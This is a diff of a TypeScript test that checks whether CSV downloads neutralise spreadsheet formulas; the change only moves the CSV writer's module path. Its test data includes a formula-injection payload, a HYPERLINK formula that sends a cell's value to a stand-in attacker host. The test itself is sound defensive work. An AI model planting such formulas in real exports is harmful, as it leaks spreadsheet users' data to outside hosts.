@@ -1,6 +1,6 @@
 // Every CSV download is safe to open in Excel: a cell that a spreadsheet would run as a formula
 // (=, +, -, @, tab, carriage return first) is written with a leading ', by the one CSV writer
-// every export goes through (src/server/services/csv-download.ts).
+// every export goes through (src/server/services/infra/csv-download.ts).
 import { readdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
@@ -19,7 +19,7 @@ const EXPORTS = [
   { route: 'src/server/http/account-routes.ts', url: '/api/admin/customers.csv', delimiter: ';' },
 ] as const;
 
-const THE_WRITER = 'src/server/services/csv-download.ts';
+const THE_WRITER = 'src/server/services/infra/csv-download.ts';
 const THE_REPLY = 'src/server/http/csv-reply.ts';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&E3,"Ver pedido")';
